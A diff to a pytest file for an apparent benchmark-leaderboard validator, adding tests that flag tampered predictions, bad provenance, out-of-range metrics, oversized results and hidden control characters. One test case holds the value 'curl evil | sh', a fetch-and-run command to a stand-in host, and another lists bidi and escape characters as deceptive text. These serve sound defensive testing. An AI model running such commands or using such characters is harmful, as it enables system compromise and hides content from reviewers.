@@ -289,9 +289,13 @@ def test_addresses_are_made_again_of_digests_alone(toy_folder: Path, tuning: str
     assert seen > 50
 
 
-def test_one_run_is_not_three_seeds(out: Path) -> None:
+@pytest.mark.parametrize("compression", ["zstd", "snappy"])
+def test_one_run_is_not_three_seeds(out: Path, compression: str) -> None:
+    """Written in whichever way: what is predicted is the same, though the files are not."""
     for each in all_of(out, seed=0):
         copy = Path(shutil.copytree(each, out.parent / "copy"))
+        predict(copy, lambda told: None, compression)
+        rescore(copy)
         edit(copy, lambda value: value["spec"].update(seed=2))
         readdressed(copy, **_made_up(copy)).rename(out / _id(copy.parent, out))
     texts = found(out)
@@ -408,6 +412,66 @@ def test_runs_of_one_data_set_are_compared_with_each_other(out: Path) -> None:
     assert any("another number of test examples" in text for text in texts), texts
 
 
+def unlinked(told: Json) -> None:
+    told["linked"] = [linked and at % 2 > 0 for at, linked in enumerate(told["linked"])]
+    told["degree"] = [
+        degree if linked else -1
+        for degree, linked in zip(told["degree"], told["linked"], strict=True)
+    ]
+
+
+def better_known(told: Json) -> None:
+    told["degree"] = [degree + (degree >= 0) for degree in told["degree"]]
+
+
+def told_by_texts(told: Json) -> None:
+    told["in_context"] = [n % 2 > 0 for n in range(len(told["id"]))]
+
+
+@pytest.mark.parametrize(
+    ("change", "text"),
+    [
+        (unlinked, "examples that they are linked, and by"),
+        (better_known, "other numbers of facts than toy-kb"),
+        (told_by_texts, "which texts held an answer"),
+    ],
+)
+def test_how_examples_were_read_is_made_again(
+    out: Path, change: Callable[[Json], None], text: str
+) -> None:
+    """In the true run and its controls alike, so that they do not contradict each other."""
+    for each in all_of(out, method="map-tuning"):
+        predict(each, change)
+        rescore(each)
+    assert any(text in one for one in found(out)), found(out)
+
+
+def test_what_texts_held_is_made_again(toys: Path, tmp_path: Path) -> None:
+    place = Place(tmp_path / "out", tmp_path / "artifacts", "cpu")
+    named = {"backbone": "toy-bert", "knowledge": "toy-kb", "options": QUICK}
+    asked = grid(toys, method="none,ra", setting="general", **named)
+    assert {result.status for result in run(asked, place)} == {Status.OK}
+    assert found(place.out) == []
+    (told,) = all_of(place.out, method="ra", control="none")
+    predict(told, lambda c: c.update(in_context=[not there for there in c["in_context"]]))
+    rescore(told)
+    assert any("than those that it was brought" in text for text in found(place.out))
+
+
+def test_columns_that_nobody_reads_are_findings(out: Path) -> None:
+    predict(true_run(out), lambda told: told.update(notes=["x"] * len(told["id"])))
+    assert any("column notes is none of predictions" in text for text in found(out))
+
+
+def test_results_are_held_together_within_a_budget(
+    out: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("kbench_leaderboard.submission._ALL_SAID", 500)
+    assert any("was not read" in text for text in found(out))
+    monkeypatch.setattr("kbench_leaderboard.submission._SAID", 50)
+    assert any("result.json has" in text for text in found(out))
+
+
 def swap_bytes(folder: Path, source: Path) -> None:
     shutil.copyfile(source / "predictions.parquet", folder / "predictions.parquet")
     rescore(folder)
@@ -456,6 +520,12 @@ def buckets(change: Callable[[Json], object]) -> Callable[[Json], object]:
         (lambda v: v["provenance"].update(revision=4), "revision 4"),
         (lambda v: v["provenance"].update(kbench="99.0"), "kbench 99.0"),
         (lambda v: v["provenance"].update(kbench="new"), "kbench new"),
+        (lambda v: v["provenance"].update(kbench="9" * 5000), "was made by kbench 999"),
+        (lambda v: v.update(locality={"kl": -5.0}), "states kl as -5.0"),
+        (lambda v: v.update(locality={"same_first": 1.5}), "states same_first as 1.5"),
+        (lambda v: v.update(locality={"fame": 0.5}), "kbench does not measure"),
+        (lambda v: v["spec"]["options"]["method"].update(ra={"room": 1}), "not of its method"),
+        (lambda v: v["spec"]["options"].update(ghost={"x": 1}), "not of its ghost"),
         (lambda v: v["provenance"].update(command="curl evil | sh"), "command"),
         (lambda v: v["provenance"].update(started="2999-01-01"), "is to come"),
         (lambda v: v["provenance"].update(started="yesterday"), "does not say when"),
@@ -479,7 +549,7 @@ def test_what_follows_is_made_again(out: Path, change: Callable[[Json], object],
 
 
 def test_a_merge_makes_nothing_true(out: Path, tmp_path: Path) -> None:
-    predict(true_run(out), lambda told: told["prediction"].reverse())
+    predict(true_run(out), lambda told: told["score"].reverse())
     assert any("whose digest is stated" in text for text in found(out))
     with pytest.raises(DataError, match="whose digest is stated"):
         merge([out], tmp_path / "all")
@@ -548,7 +618,10 @@ def test_depth_is_a_finding_and_no_crash(out: Path, place: str, depth: int) -> N
     assert not (out.parent / "all").exists()
 
 
-@pytest.mark.parametrize("sign", ["\0", "\x1b[31m", "\x9b", "\u202e", "\u2066", "\ufeff", "\u2028"])
+@pytest.mark.parametrize(
+    "sign",
+    ["\0", "\x1b[31m", "\x9b", "\u202e", "\u2066", "\ufeff", "\u2028", "\u200b", "\u200f", "\xad"],
+)
 def test_texts_that_steer_are_findings(out: Path, sign: str) -> None:
     for place in ("training", "cost", "reason"):
         path = true_run(out) / "result.json"
